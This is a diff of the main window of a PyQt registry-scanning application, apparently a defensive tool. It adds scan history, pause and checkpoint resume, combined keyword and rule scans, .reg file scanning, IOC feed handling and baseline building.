+            QMessageBox.warning(self, tr("title"), tr("query_error").format(e)); return
+        except Exception as e:
+            QMessageBox.warning(self, tr("title"), str(e)); return
+        highlight = QColor(35, 52, 93) if self.config.get("theme") in ("dark","midnight","ocean","steel","forest","ruby") else QColor(223, 230, 255)
+        self.model_history.set_source(rows, highlight)
+        self.lbl_history_count.setText(tr("history_result_count").format(len(rows), ms))
+
+    def _history_delete_run(self):
+        run_id = self._history_selected_run_id()
+        if run_id is None or not self._confirm(tr("confirm_delete_run")):
+            return
+        try:
+            hist = ScanHistory()
+            try:
+                hist.delete_run(run_id)
+            finally:
+                hist.close()
+        except Exception as e:
+            QMessageBox.warning(self, tr("title"), str(e)); return
+        self.model_history.set_source([])
+        self._history_refresh_runs()
+
     # ---------- أحداث عامة / تبويب
     def _on_tab_changed(self, index: int):
+        if index == 2:
+            # تبويب السجل لا يغيّر تبويب الفحص النشط (التصدير/المسح/الفلترة تبقى عليه)
+            self._history_refresh_runs()
+            return
         self.current_scan_tab = "kw" if index == 0 else "rules"
         headers = (self._current_filter_headers_kw if self.current_scan_tab=="kw"
                    else self._current_filter_headers_rules)
         self.filter_status.retitle(headers)
 
     def closeEvent(self, event):
+        # إيقاف الفحص الجاري ينتج نقطة حفظ يمكن استئنافها بعد إعادة التشغيل
+        if self.scanner and self.scanner.isRunning():
+            self.scanner.stop()
+            self.scanner.wait(5000)
+        if self.key_index_builder and self.key_index_builder.isRunning():
+            # الأشجار المكتملة تبقى في الفهرس؛ المقطوعة بلا صف لجذرها فتُعدَّد في التحديث التالي (عند أول تشغيل)
+            self.key_index_builder.stop()
+            self.key_index_builder.wait(5000)
+        if self.baseline_builder and self.baseline_builder.isRunning():
+            # الملف يُستبدل ذرّياً عند الاكتمال فقط؛ الانتظار يمنع ترك ملف .tmp والدفعات المؤقتة
+            self.baseline_builder.wait()
         try:
             self._save_lists()
             self._save_rules_meta()
         except Exception:
             pass
+        for items in (self.last_kw, self.last_rules_res):
+            if isinstance(items, ResultStore):
+                items.close()
         super().closeEvent(event)
 
     def eventFilter(self, obj, event):
@@ -1766,9 +7592,12 @@ class Main(QMainWindow):
     def _apply_language(self):
         self.setWindowTitle(tr("title"))
         for act, key in [
-            (self.act_scan,"scan"),(self.act_stop,"stop"),(self.act_refresh,"refresh"),
+            (self.act_scan,"scan"),(self.act_scan_both,"scan_both"),(self.act_scan_file,"scan_file"),
+            (self.act_stop,"stop"),(self.act_refresh,"refresh"),
             (self.act_clear,"clear"),(self.act_export,"export"),
-            (self.act_settings,"settings"),(self.act_exit,"exit")
+            (self.act_settings,"settings"),(self.act_exit,"exit"),
+            (self.act_resume_cp,"resume_checkpoint"),
+            (self.act_pause,"resume" if (self.scanner and self.scanner.is_paused()) else "pause"),
         ]:
             act.setText(tr(key)); act.setIconText(tr(key)); act.setToolTip(tr(key))
 
@@ -1780,6 +7609,7 @@ class Main(QMainWindow):
 
         # أزرار تبويب الكلمات
         self.btn_add_kw.setText(tr("add"))
+        self._update_ioc_button()
         self.btn_edit_kw.setText(tr("edit"))
         self.btn_rem_kw.setText(tr("remove"))
         self.btn_add_key_kw.setText(tr("add"))
@@ -1789,11 +7619,14 @@ class Main(QMainWindow):
         # عناصر عرض
         self.radio_display_matched_kw.setText(tr("display_matched"))
         self.radio_display_all_kw.setText(tr("display_all"))
+        self.chk_asep_kw.setText(tr("asep_mode")); self.chk_asep_kw.setToolTip(tr("asep_tip"))
 
         # تحديث عناوين الجدول (محذوف منه "Matched rule")
         kw_headers = [h for h in tr("tbl_headers") if h not in ([ "Matched rule" ] if LANG=="en" else ["القاعدة المطابقة"])]
-        self.table_kw.setHorizontalHeaderLabels(kw_headers)
+        self.model_kw.set_headers(kw_headers)
         self._current_filter_headers_kw = kw_headers
+        self.chk_group_kw.setText(tr("group_values")); self.chk_group_kw.setToolTip(tr("group_values_tip"))
+        self.model_groups_kw.set_headers(tr("group_headers"))
 
         # تبويب القواعد
         self.tabs.setTabText(1, tr("tab_rules"))
@@ -1810,11 +7643,29 @@ class Main(QMainWindow):
 
         self.radio_display_matched_rules.setText(tr("display_matched"))
         self.radio_display_all_rules.setText(tr("display_all"))
+        self.chk_asep_rules.setText(tr("asep_mode")); self.chk_asep_rules.setToolTip(tr("asep_tip"))
 
         # تحديث عناوين الجدول (محذوف منه "Matched keyword")
         rules_headers = [h for h in tr("tbl_headers") if h not in ([ "Matched keyword" ] if LANG=="en" else ["الكلمة المطابقة"])]
-        self.table_rules.setHorizontalHeaderLabels(rules_headers)
+        self.model_rules.set_headers(rules_headers)
         self._current_filter_headers_rules = rules_headers
+        self.chk_group_rules.setText(tr("group_values")); self.chk_group_rules.setToolTip(tr("group_values_tip"))
+        self.model_groups_rules.set_headers(tr("group_headers"))
+
+        # تبويب السجل
+        self.tabs.setTabText(2, tr("tab_history"))
+        self.card_history_runs.title_lbl.setText(tr("history_runs"))
+        self.card_history_query.title_lbl.setText(tr("history_query"))
+        self.table_history_runs.setHorizontalHeaderLabels(tr("history_run_headers"))
+        self.model_history.set_headers([tr("history_run_col")] + tr("tbl_headers") + [tr("history_host_col")])
+        field_idx = self.history_field.currentIndex()
+        self.history_field.clear(); self.history_field.addItems(tr("history_fields")); self.history_field.setCurrentIndex(field_idx)
+        self.history_mode_exact.setText(tr("history_exact")); self.history_mode_prefix.setText(tr("history_prefix"))
+        self.history_mode_query.setText(tr("history_query_mode")); self.history_mode_query.setToolTip(tr("query_help"))
+        self.history_selected_only.setText(tr("history_selected_run"))
+        self.btn_history_search.setText(tr("history_search"))
+        self.btn_history_refresh.setText(tr("history_refresh"))
+        self.btn_history_delete.setText(tr("history_delete_run"))
 
         # شريط الحالة (تحديث عدادات النصوص)
         self._update_status_counts(0,0,0.0)
@@ -2029,6 +7880,7 @@ class Main(QMainWindow):
     # ---------- إدارة القوائم المشتركة
     def _add_key(self, list_widget: QListWidget):
         dlg = LabeledInputDialog(tr("add_key_title"), tr("add_key_hint"), tr("add_key_hint"), "", self)
+        attach_key_completer(dlg.edit)
         text, ok = dlg.getText()
         if ok and text.strip():
             vals = [list_widget.item(i).text() for i in range(list_widget.count())]
@@ -2042,6 +7894,71 @@ class Main(QMainWindow):
             for it in sels:
                 list_widget.takeItem(list_widget.row(it))
 
+    def _find_keys_into(self, list_widget: QListWidget):
+        dlg = KeySearchDialog(self)
+        if dlg.exec_() == QDialog.Accepted and dlg.selected_paths:
+            vals = [list_widget.item(i).text() for i in range(list_widget.count())]
+            for path in dlg.selected_paths:
+                if path not in vals:
+                    list_widget.addItem(QListWidgetItem(path))
+
+    def _maybe_refresh_key_index(self):
+        if not self.config.get("key_index", True) or (self.key_index_builder and self.key_index_builder.isRunning()):
+            return
+        try:
+            if not key_index().is_stale():
+                return
+        except Exception:
+            return
+        self.key_index_builder = KeyIndexBuilder()
+        self.key_index_builder.finished.connect(self._on_key_index_done)
+        self.key_index_builder.start(QThread.LowestPriority)
+
+    def _ioc_feed_paths(self) -> List[str]:
+        return [f["path"] for f in self.config.get("ioc_feeds", []) if f.get("enabled", True) and os.path.exists(f["path"])]
+
+    def _update_ioc_button(self):
+        n = len(self._ioc_feed_paths())
+        self.btn_ioc_kw.setText(tr("ioc_feeds") + (f" ({n})" if n else ""))
+
+    def _manage_ioc_feeds(self):
+        dlg = IocFeedsDialog(self.config.get("ioc_feeds", []), self)
+        dlg.exec_()
+        # الاستيراد والحذف يمسّان الملفات فوراً، فالقائمة تُحفظ حتى عند الإلغاء
+        self.config["ioc_feeds"] = dlg.feeds
+        self._save_config()
+        self._update_ioc_button()
+
+    def _build_baseline_from_results(self) -> str:
+        """يبدأ بناء خط أساس من نتائج تبويب الفحص الحالي في الخلفية ويُعيد مسار الملف المختار."""
+        items = self.last_kw if self.current_scan_tab == "kw" else self.last_rules_res
+        if not len(items):
+            QMessageBox.information(self, tr("title"), tr("baseline_no_results"))
+            return ""
+        if self.baseline_builder and self.baseline_builder.isRunning():
+            return ""
+        BASELINE_DIR.mkdir(parents=True, exist_ok=True)
+        default = str(BASELINE_DIR / f"baseline_{datetime.now().strftime('%Y%m%d_%H%M')}.ntrebl")
+        fname, _ = QFileDialog.getSaveFileName(self, tr("baseline_build"), default, "Baseline (*.ntrebl)")
+        if not fname:
+            return ""
+        self.baseline_builder = BaselineBuilder(items, fname)
+        self.baseline_builder.finished.connect(self._on_baseline_built)
+        self.baseline_builder.start(QThread.LowPriority)
+        self.status.showMessage(tr("baseline_building").format(len(items)))
+        return fname
+
+    def _on_baseline_built(self, count: int, err: str):
+        if err:
+            QMessageBox.warning(self, tr("title"), err)
+        else:
+            self.status.showMessage(tr("baseline_built").format(count), 8000)
+
+    def _on_key_index_done(self, stats: Dict[str, int]):
+        if stats and not (self.scanner and self.scanner.isRunning()):
+            self.status.showMessage(tr("key_index_done").format(stats.get("keys", 0), stats.get("added", 0),
+                                                               stats.get("removed", 0)), 8000)
+
     def _browse_registry_into(self, list_widget: QListWidget):
         dlg = RegistryBrowserDialog(self)
         if dlg.exec_() == QDialog.Accepted and dlg.selected_paths:
@@ -2290,7 +8207,21 @@ class Main(QMainWindow):
             owner_filter=self.config.get("owner_filter", "all"),
             mode_keywords=True,
             mode_rules=False,
-            display_mode=display_mode
+            display_mode=display_mode,
+            low_impact=bool(self.config.get("low_impact", False)),
+            target_rate=int(self.config.get("target_rate", 0)),
+            cpu_share=int(self.config.get("cpu_share", 25)),
+            open_relative=bool(self.config.get("open_relative", True)),
+            max_matches=int(self.config.get("max_matches", 0)),
+            stop_on_first=bool(self.config.get("stop_on_first", False)),
+            top_n=int(self.config.get("top_n", 0)),
+            asep=self.chk_asep_kw.isChecked(),
+            ioc_feeds=self._ioc_feed_paths(),
+            offline_hives=bool(self.config.get("offline_hives", False)),
+            baseline=self.config.get("baseline_path", "") if self.config.get("baseline_mode", "off") != "off" else "",
+            baseline_mode=self.config.get("baseline_mode", "off"),
+            obfuscation=bool(self.config.get("obfuscation", False)),
+            obf_threshold=int(self.config.get("obf_threshold", OBF_THRESHOLD_DEFAULT)),
         )
 
     def _criteria_rules(self) -> Criteria:
@@ -2305,12 +8236,30 @@ class Main(QMainWindow):
             owner_filter=self.config.get("owner_filter", "all"),
             mode_keywords=False,
             mode_rules=True,
-            display_mode=display_mode
+            display_mode=display_mode,
+            low_impact=bool(self.config.get("low_impact", False)),
+            target_rate=int(self.config.get("target_rate", 0)),
+            cpu_share=int(self.config.get("cpu_share", 25)),
+            open_relative=bool(self.config.get("open_relative", True)),
+            max_matches=int(self.config.get("max_matches", 0)),
+            stop_on_first=bool(self.config.get("stop_on_first", False)),
+            top_n=int(self.config.get("top_n", 0)),
+            asep=self.chk_asep_rules.isChecked(),
+            ioc_feeds=self._ioc_feed_paths(),
+            offline_hives=bool(self.config.get("offline_hives", False)),
+            baseline=self.config.get("baseline_path", "") if self.config.get("baseline_mode", "off") != "off" else "",
+            baseline_mode=self.config.get("baseline_mode", "off"),
+            obfuscation=bool(self.config.get("obfuscation", False)),
+            obf_threshold=int(self.config.get("obf_threshold", OBF_THRESHOLD_DEFAULT)),
         )
 
     # ---------- الفحص (تبويبي)
     def _start_scan(self):
         active_index = self.tabs.currentIndex()
+        if active_index == 2:
+            # من تبويب السجل: الفحص يجري في آخر تبويب فحص نشط
+            self.tabs.setCurrentIndex(0 if self.current_scan_tab == "kw" else 1)
+            active_index = self.tabs.currentIndex()
         if active_index == 0:
             self.current_scan_tab = "kw"
             self._start_scan_keywords()
@@ -2323,7 +8272,8 @@ class Main(QMainWindow):
 
     def _start_scan_keywords(self):
         crit = self._criteria_keywords()
-        if not crit.keys or not crit.keywords:
+        # مسح ASEP بلا كلمات يعرض كل قيم نقاط التشغيل التلقائي؛ خلاصات IOC ومرحلة التمويه تكفيان مرشّحاً بلا كلمات
+        if (not crit.keys or not (crit.keywords or crit.ioc_feeds or crit.obfuscation)) and not crit.asep:
             QMessageBox.warning(self, tr("title"), tr("no_filters")); return
         self._begin_scan(crit, rules_specs=[])
 
@@ -2332,23 +8282,88 @@ class Main(QMainWindow):
             QMessageBox.warning(self, tr("title"), tr("need_yaml")); return
         crit = self._criteria_rules()
         rules_meta = self._collect_rules_for_scanning_from_rules_tab()
-        if not any(r.get("enabled", True) for r in rules_meta):
+        if not any(r.get("enabled", True) for r in rules_meta) and not (crit.ioc_feeds or crit.obfuscation):
             QMessageBox.warning(self, tr("title"), tr("no_rules")); return
         rules_specs = load_rules_from_filelist(rules_meta)
         self._begin_scan(crit, rules_specs=rules_specs)
 
-    def _begin_scan(self, crit: Criteria, rules_specs: List[RuleSpec]):
-        # تهيئة واجهة التبويب النشط
-        if self.current_scan_tab == "kw":
-            self.table_kw.setRowCount(0)
+    def _start_scan_both(self):
+        """عبور واحد لجذور التبويبين يقيّم الكلمات والقواعد معاً ويوزّع النتائج على التبويبين."""
+        if self.scanner and self.scanner.isRunning():
+            return
+        if not HAVE_YAML:
+            QMessageBox.warning(self, tr("title"), tr("need_yaml")); return
+        crit_kw, crit_rules = self._criteria_keywords(), self._criteria_rules()
+        rules_meta = self._collect_rules_for_scanning_from_rules_tab()
+        if crit_kw.asep != crit_rules.asep:
+            QMessageBox.warning(self, tr("title"), tr("asep_both_mismatch")); return
+        if (not crit_kw.asep and (not crit_kw.keys or not crit_kw.keywords or not crit_rules.keys)) \
+                or not any(r.get("enabled", True) for r in rules_meta):
+            QMessageBox.warning(self, tr("title"), tr("no_filters_both")); return
+        rules_specs = load_rules_from_filelist(rules_meta)
+        if self.tabs.currentIndex() == 2:
+            self.tabs.setCurrentIndex(0 if self.current_scan_tab == "kw" else 1)
+        meta = {"tab": "both", "routes": combined_routes(crit_kw, crit_rules)}
+        self._begin_scan(combined_criteria(crit_kw, crit_rules), rules_specs, meta=meta)
+        # "تحديث" بعد الفحص المشترك يعيد فحص التبويب النشط وحده بمعاييره
+        self.last_criteria_kw, self.last_rules_specs_kw = crit_kw, []
+        self.last_criteria_rules, self.last_rules_specs_rules = crit_rules, rules_specs
+
+    def _start_scan_file(self):
+        """فحص ملفات تصدير .reg أو خلايا Wine النصية بمعايير التبويب النشط بدلاً من السجل الحي."""
+        if self.scanner and self.scanner.isRunning():
+            return
+        paths, _ = QFileDialog.getOpenFileNames(self, tr("scan_file"), "", tr("regfile_filter"))
+        if not paths:
+            return
+        if self.tabs.currentIndex() == 2:
+            self.tabs.setCurrentIndex(0 if self.current_scan_tab == "kw" else 1)
+        if self.tabs.currentIndex() == 0:
+            self.current_scan_tab = "kw"
+            crit, rules_specs = self._criteria_keywords(), []
+            if not (crit.keywords or crit.ioc_feeds or crit.obfuscation):
+                QMessageBox.warning(self, tr("title"), tr("no_filters")); return
         else:
-            self.table_rules.setRowCount(0)
+            if not HAVE_YAML:
+                QMessageBox.warning(self, tr("title"), tr("need_yaml")); return
+            self.current_scan_tab = "rules"
+            crit = self._criteria_rules()
+            rules_meta = self._collect_rules_for_scanning_from_rules_tab()
+            if not any(r.get("enabled", True) for r in rules_meta) and not (crit.ioc_feeds or crit.obfuscation):
+                QMessageBox.warning(self, tr("title"), tr("no_rules")); return
+            rules_specs = load_rules_from_filelist(rules_meta)
+        # جذور التبويب تحصر الفحص داخل الملف؛ ASEP يخص السجل الحي
+        self._begin_scan(replace(crit, reg_files=list(paths), asep=False, offline_hives=False), rules_specs)
+        self.filter_status.retitle(self._current_filter_headers_kw if self.current_scan_tab == "kw"
+                                   else self._current_filter_headers_rules)
+
+    def _begin_scan(self, crit: Criteria, rules_specs: List[RuleSpec],
+                    resume: Optional[Tuple[Dict[str, Any], int]] = None,
+                    meta: Optional[Dict[str, Any]] = None):
+        # عرض خطة الفحص (بعد دمج الجذور المتداخلة/المتكافئة) قبل البدء
+        plan = None
+        if resume is None and not crit.asep and not crit.reg_files:
+            plan = build_scan_plan(crit.keys)
+            if not plan.units:
+                QMessageBox.warning(self, tr("title"), tr("no_filters")); return
+            if not plan.is_trivial(crit.keys) and ScanPlanDialog(plan, self).exec_() != QDialog.Accepted:
+                return
+        meta = dict(meta or {"tab": self.current_scan_tab})
+        if resume is None:
+            ACCESS_MEMO.clear()
+        # تهيئة واجهة التبويب النشط (أو التبويبين في الفحص المشترك)
+        for kind in (("kw", "rules") if meta.get("tab") == "both" else (self.current_scan_tab,)):
+            self._set_results(kind, [])
         self.progress.setVisible(True); self.progress.setRange(0,0)
         self.status.showMessage(tr("progress"))
-        self.act_scan.setEnabled(False); self.act_stop.setEnabled(True); self.act_refresh.setEnabled(False)
+        self.act_scan.setEnabled(False); self.act_scan_both.setEnabled(False); self.act_scan_file.setEnabled(False); self.act_stop.setEnabled(True); self.act_refresh.setEnabled(False)
+        self.act_pause.setEnabled(True); self.act_resume_cp.setEnabled(False)
 
         # تشغيل الماسح
-        self.scanner = RegistryScannerThread(crit, rules=rules_specs)
+        self.scanner = RegistryScannerThread(crit, rules=rules_specs,
+                                             meta=meta, resume=resume, plan=plan,
+                                             history=bool(self.config.get("history_enabled", True)),
+                                             snapshot_ttl=int(self.config.get("snapshot_ttl", SNAPSHOT_TTL_DEFAULT)))
         self.scanner.progress.connect(self._on_progress)
         self.scanner.finished.connect(self._on_finished_tabaware)
         self.scanner.error.connect(self._on_error)
@@ -2357,7 +8372,9 @@ class Main(QMainWindow):
         # تشغيل نبض تحديث الواجهة للتجاوب
         self.ui_heartbeat.start()
 
-        if self.current_scan_tab == "kw":
+        if meta.get("tab") == "both":
+            pass
+        elif self.current_scan_tab == "kw":
             self.last_criteria_kw = crit
             self.last_rules_specs_kw = rules_specs
         else:
@@ -2369,17 +8386,23 @@ class Main(QMainWindow):
             return
         self.progress.setVisible(True); self.progress.setRange(0,0)
         self.status.showMessage(tr("progress"))
-        self.act_scan.setEnabled(False); self.act_stop.setEnabled(True); self.act_refresh.setEnabled(False)
+        self.act_scan.setEnabled(False); self.act_scan_both.setEnabled(False); self.act_scan_file.setEnabled(False); self.act_stop.setEnabled(True); self.act_refresh.setEnabled(False)
+        self.act_pause.setEnabled(True); self.act_resume_cp.setEnabled(False)
+        meta = {"tab": self.current_scan_tab}
         if self.current_scan_tab == "kw":
             if not self.last_criteria_kw:
                 QMessageBox.information(self, tr("title"), tr("no_filters")); self._stop_scan(); return
-            self.table_kw.setRowCount(0)
-            self.scanner = RegistryScannerThread(self.last_criteria_kw, rules=self.last_rules_specs_kw)
+            self._set_results("kw", [])
+            self.scanner = RegistryScannerThread(self.last_criteria_kw, rules=self.last_rules_specs_kw, meta=meta,
+                                                 history=bool(self.config.get("history_enabled", True)),
+                                                 snapshot_ttl=int(self.config.get("snapshot_ttl", SNAPSHOT_TTL_DEFAULT)))
         else:
             if not self.last_criteria_rules:
                 QMessageBox.information(self, tr("title"), tr("no_filters")); self._stop_scan(); return
-            self.table_rules.setRowCount(0)
-            self.scanner = RegistryScannerThread(self.last_criteria_rules, rules=self.last_rules_specs_rules)
+            self._set_results("rules", [])
+            self.scanner = RegistryScannerThread(self.last_criteria_rules, rules=self.last_rules_specs_rules, meta=meta,
+                                                 history=bool(self.config.get("history_enabled", True)),
+                                                 snapshot_ttl=int(self.config.get("snapshot_ttl", SNAPSHOT_TTL_DEFAULT)))
         self.scanner.progress.connect(self._on_progress)
         self.scanner.finished.connect(self._on_finished_tabaware)
         self.scanner.error.connect(self._on_error)
@@ -2396,18 +8419,59 @@ class Main(QMainWindow):
     def _stop_scan(self):
         if self.scanner:
             self.scanner.stop()
-        self.act_scan.setEnabled(True); self.act_stop.setEnabled(False); self.act_refresh.setEnabled(True)
+        self.act_scan.setEnabled(True); self.act_scan_both.setEnabled(True); self.act_scan_file.setEnabled(True); self.act_stop.setEnabled(False); self.act_refresh.setEnabled(True)
+        self._reset_pause_action()
         self.progress.setVisible(False); self.status.clearMessage()
         self.ui_heartbeat.stop()
 
+    def _reset_pause_action(self):
+        self.act_pause.setEnabled(False)
+        self.act_pause.setIcon(icon_for_action("pause"))
+        self.act_pause.setText(tr("pause")); self.act_pause.setIconText(tr("pause")); self.act_pause.setToolTip(tr("pause"))
+        self.act_resume_cp.setEnabled(CHECKPOINT_FILE.exists())
+
+    def _toggle_pause(self):
+        if not self.scanner or not self.scanner.isRunning():
+            return
+        if self.scanner.is_paused():
+            self.scanner.resume()
+            key, icon = "pause", "pause"
+            self.status.showMessage(tr("progress"))
+            self.ui_heartbeat.start()
+        else:
+            self.scanner.pause()
+            key, icon = "resume", "resume"
+            self.status.showMessage(tr("paused"))
+            self.ui_heartbeat.stop()
+        self.act_pause.setIcon(icon_for_action(icon))
+        self.act_pause.setText(tr(key)); self.act_pause.setIconText(tr(key)); self.act_pause.setToolTip(tr(key))
+
+    def _resume_from_checkpoint(self):
+        if self.scanner and self.scanner.isRunning():
+            return
+        loaded = load_scan_checkpoint()
+        if not loaded:
+            QMessageBox.information(self, tr("title"), tr("no_checkpoint"))
+            self.act_resume_cp.setEnabled(False)
+            return
+        state, rows = loaded
+        if not self._confirm(tr("confirm_resume_checkpoint").format(rows, state.get("counter", 0))):
+            return
+        crit = criteria_from_dict(state.get("criteria", {}))
+        rules_specs = load_rules_from_filelist(state.get("rules", [])) if crit.mode_rules else []
+        tab = (state.get("meta") or {}).get("tab", "kw")
+        self.tabs.setCurrentIndex(0 if tab == "kw" else 1)
+        self._on_tab_changed(self.tabs.currentIndex())
+        self._begin_scan(crit, rules_specs=rules_specs, resume=(state, rows), meta=state.get("meta"))
+
     def _clear(self):
         if self.current_scan_tab == "kw":
-            self.table_kw.setRowCount(0); self.last_kw = []
+            self._set_results("kw", [])
             self.lbl_total_kw.setText("0"); self.lbl_susp_kw.setText("0"); self.lbl_rate_kw.setText("0%")
             if getattr(self, 'plot_kw', None): self.plot_kw.clear()
             self._update_status_counts(0,0,0.0)
         else:
-            self.table_rules.setRowCount(0); self.last_rules_res = []
+            self._set_results("rules", [])
             self.lbl_total_rules.setText("0"); self.lbl_susp_rules.setText("0"); self.lbl_rate_rules.setText("0%")
             if getattr(self, 'plot_rules', None): self.plot_rules.clear()
             self._update_status_counts(0,0,0.0)
@@ -2423,67 +8487,71 @@ class Main(QMainWindow):
 
     def _on_finished_tabaware(self, items: List[Dict[str,Any]], total:int):
         try:
-            if self.current_scan_tab == "kw":
-                self.last_kw = items
+            if isinstance(items, dict):
+                # فحص مشترك: التبويب النشط آخراً كي تبقى رسالة الحالة له
+                for kind in sorted(items, key=lambda k: k == self.current_scan_tab):
+                    self._set_results(kind, items[kind])
+                    if kind == "kw":
+                        self._fill_table_and_stats_kw(items[kind], total)
+                    else:
+                        self._fill_table_and_stats_rules(items[kind], total)
+            elif self.current_scan_tab == "kw":
+                self._set_results("kw", items)
                 self._fill_table_and_stats_kw(items, total)
             else:
-                self.last_rules_res = items
+                self._set_results("rules", items)
                 self._fill_table_and_stats_rules(items, total)
-            self.act_scan.setEnabled(True); self.act_stop.setEnabled(False); self.act_refresh.setEnabled(True)
+            self.act_scan.setEnabled(True); self.act_scan_both.setEnabled(True); self.act_scan_file.setEnabled(True); self.act_stop.setEnabled(False); self.act_refresh.setEnabled(True)
+            self._reset_pause_action()
             self.progress.setVisible(False); self.progress.setRange(0,100)
             self.ui_heartbeat.stop()
+            self._history_refresh_runs()
         except Exception as e:
             traceback.print_exc()
             self._on_error(str(e))
 
+    def _set_results(self, kind: str, items):
+        # الجدول يقرأ من النتائج مباشرة؛ المخزن السابق (إن وُجد) يُغلق ويُحذف ملفه
+        prev = self.last_kw if kind == "kw" else self.last_rules_res
+        if isinstance(prev, ResultStore) and prev is not items:
+            (self.model_kw if kind == "kw" else self.model_rules).set_source([])
+            (self.model_groups_kw if kind == "kw" else self.model_groups_rules).set_source([])
+            prev.close()
+        if kind == "kw":
+            self.last_kw = items
+        else:
+            self.last_rules_res = items
+        highlight = QColor(35, 52, 93) if self.config.get("theme") in ("dark","midnight","ocean","steel","forest","ruby") else QColor(223, 230, 255)
+        (self.model_kw if kind == "kw" else self.model_rules).set_source(items, highlight)
+        if (self.chk_group_kw if kind == "kw" else self.chk_group_rules).isChecked():
+            self._toggle_group_view(kind, True)
+
     def _fill_table_and_stats_kw(self, items, total):
-        matched_count = len([x for x in items if x.get('matched_any')])
+        matched_count = count_matched(items)
         rate = (matched_count/total*100) if total>0 else 0.0
-        # تعبئة الجدول
-        self.table_kw.setRowCount(len(items))
-        for i,it in enumerate(items):
-            row_vals = [
-                it.get("key",""), it.get("value_name",""), it.get("value_str",""), it.get("matched_kw",""),
-                it.get("value_type",""), it.get("last_mod",""), it.get("owner",""), it.get("state",""),
-                ", ".join(it.get("reasons",[]))
-            ]
-            for c,val in enumerate(row_vals):
-                cell = QTableWidgetItem(str(val))
-                cell.setTextAlignment(Qt.AlignLeft|Qt.AlignVCenter)
-                if it.get("matched_any"):
-                    cell.setBackground(QColor(35, 52, 93) if self.config.get("theme") in ("dark","midnight","ocean","steel","forest","ruby") else QColor(223, 230, 255))
-                self.table_kw.setItem(i,c,cell)
         # إحصاءات
         self.lbl_total_kw.setText(str(total)); self.lbl_susp_kw.setText(str(matched_count))
         self.lbl_rate_kw.setText(f"{rate:.2f}%")
         self._update_status_counts(total, matched_count, rate)
-        self.status.showMessage(tr("done").format(matched_count, total))
+        self.status.showMessage(self._done_message(matched_count, total))
         if getattr(self, 'plot_kw', None):
             self._plot_reasons(self.plot_kw, items, which="kw")
 
     def _fill_table_and_stats_rules(self, items, total):
-        matched_count = len([x for x in items if x.get('matched_any')])
+        matched_count = count_matched(items)
         rate = (matched_count/total*100) if total>0 else 0.0
-        self.table_rules.setRowCount(len(items))
-        for i,it in enumerate(items):
-            row = [
-                it.get("key",""), it.get("value_name",""), it.get("value_str",""),
-                it.get("value_type",""), it.get("last_mod",""), it.get("owner",""), it.get("state",""),
-                it.get("matched_rule",""), ", ".join(it.get("reasons",[]))
-            ]
-            for c,val in enumerate(row):
-                cell = QTableWidgetItem(str(val))
-                cell.setTextAlignment(Qt.AlignLeft|Qt.AlignVCenter)
-                if it.get("matched_any"):
-                    cell.setBackground(QColor(35, 52, 93) if self.config.get("theme") in ("dark","midnight","ocean","steel","forest","ruby") else QColor(223, 230, 255))
-                self.table_rules.setItem(i,c,cell)
         self.lbl_total_rules.setText(str(total)); self.lbl_susp_rules.setText(str(matched_count))
         self.lbl_rate_rules.setText(f"{rate:.2f}%")
         self._update_status_counts(total, matched_count, rate)
-        self.status.showMessage(tr("done").format(matched_count, total))
+        self.status.showMessage(self._done_message(matched_count, total))
         if getattr(self, 'plot_rules', None):
             self._plot_reasons(self.plot_rules, items, which="rules")
 
+    def _done_message(self, matched_count: int, total: int) -> str:
+        msg = tr("done").format(matched_count, total)
+        extra = format_scan_stats(self.scanner.stats) if self.scanner else ""
+        return f"{msg}  |  {extra}" if extra else msg
+
     def _update_status_counts(self, total:int, suspicious:int, rate:float):
         if LANG == "ar":
             self.lbl_status_total.setText(f"الإجمالي: {total}")
@@ -2581,70 +8649,76 @@ class Main(QMainWindow):
         # يطبّق فلترة نصية على عمود "الأسباب" لاحتواء السبب
         cfg = {"column": None, "mode": "partial", "text": reason_name}
         if which == "kw":
-            self._apply_table_filter_adv(self.table_kw, cfg)
+            self.model_kw.apply_filter(cfg)
         else:
-            self._apply_table_filter_adv(self.table_rules, cfg)
+            self.model_rules.apply_filter(cfg)
 
     def _on_error(self, msg:str):
         QMessageBox.warning(self, tr("title"), msg)
-        self.act_scan.setEnabled(True); self.act_stop.setEnabled(False); self.act_refresh.setEnabled(True)
+        self.act_scan.setEnabled(True); self.act_scan_both.setEnabled(True); self.act_scan_file.setEnabled(True); self.act_stop.setEnabled(False); self.act_refresh.setEnabled(True)
+        self._reset_pause_action()
         self.progress.setVisible(False); self.status.clearMessage()
         self.ui_heartbeat.stop()
 
     # ---------- فلترة + تفاصيل
-    def _apply_table_filter_adv(self, table: QTableWidget, cfg: Dict[str, Any]):
-        col = cfg.get("column", None)  # None يعني كل الأعمدة
-        mode = cfg.get("mode", "partial")
-        text = str(cfg.get("text",""))
-        rows = table.rowCount()
-        if not text:
-            for r in range(rows):
-                table.setRowHidden(r, False)
-            return
-        regex = None
-        if mode == "regex":
-            try:
-                regex = re.compile(text)
-            except Exception:
-                regex = None
-        for r in range(rows):
-            show = False
-            cols = range(table.columnCount()) if col is None else [col]
-            for c in cols:
-                it = table.item(r,c)
-                if not it:
-                    continue
-                cell_text = it.text()
-                if mode == "partial":
-                    if text in cell_text:
-                        show = True; break
-                elif mode == "exact":
-                    if text == cell_text:
-                        show = True; break
-                elif mode == "regex":
-                    if regex and regex.search(cell_text):
-                        show = True; break
-            table.setRowHidden(r, not show)
-
     def _apply_filter_statusbar(self, cfg: Dict[str, Any]):
-        if self.current_scan_tab == "kw":
-            self._apply_table_filter_adv(self.table_kw, cfg)
+        model = self.model_kw if self.current_scan_tab == "kw" else self.model_rules
+        try:
+            model.apply_filter(cfg)
+        except QueryError as e:
+            QMessageBox.warning(self, tr("title"), tr("query_error").format(e))
+
+    # ---------- عرض القيم المتكررة مُجمّعة
+    def _build_group_view(self, layout: QVBoxLayout, kind: str):
+        chk = QCheckBox(tr("group_values")); chk.setToolTip(tr("group_values_tip"))
+        layout.addWidget(chk)
+        model = GroupTableModel(self)
+        table = QTableView()
+        table.setModel(model)
+        table.setEditTriggers(QAbstractItemView.NoEditTriggers)
+        table.setSelectionBehavior(QAbstractItemView.SelectRows)
+        table.horizontalHeader().setSectionResizeMode(QHeaderView.Interactive)
+        table.horizontalHeader().setStretchLastSection(True)
+        table.verticalHeader().setDefaultSectionSize(26)
+        table.setVerticalScrollMode(QAbstractItemView.ScrollPerPixel)
+        table.setVisible(False)
+        layout.addWidget(table, 1)
+        chk.toggled.connect(lambda on: self._toggle_group_view(kind, on))
+        table.doubleClicked.connect(lambda idx: self._open_group_rows(kind, idx))
+        return chk, model, table
+
